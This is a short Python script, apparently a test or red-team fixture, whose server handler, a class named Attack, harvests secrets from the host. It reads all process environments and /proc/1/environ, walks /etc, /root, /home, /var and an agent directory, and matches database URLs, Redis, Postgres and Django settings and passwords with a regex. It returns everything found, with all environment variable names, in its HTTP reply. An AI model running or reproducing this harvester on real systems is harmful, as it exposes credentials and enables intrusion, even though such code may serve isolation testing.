import os
import re

import probe
import server

SECRET = re.compile(
    rb"(?:DATABASE_URL|REDIS_URL|BACKPATH_[A-Z]+|DJANGO_[A-Z]+|POSTGRES_[A-Z]+|[A-Z]*PASSWORD)"
    rb"=[^\0\n]+"
)


class Hoard(probe.Probe):
    def see(self, kind, data):
        super().see(kind, data)
        if kind in ("proc", "environment"):
            self.found |= {match[0].decode() for match in SECRET.finditer(data)}


class Attack(server.Broken):
    def answer(self):
        looked = Hoard()
        looked.processes(("environ", "cmdline"))
        looked.environment()
        for top in ("/run", "/etc", "/root", "/home", "/var", "/srv", "/mnt", "/opt/backpath/agent"):
            looked.tree(top)
        for name in ("/proc/1/environ", "/proc/1/cmdline", "/.dockerenv"):
            looked.file(name, "proc")
        names = sorted(os.environ)
        self.reply(200, looked.report() | {"names": names})


server.serve(Attack)
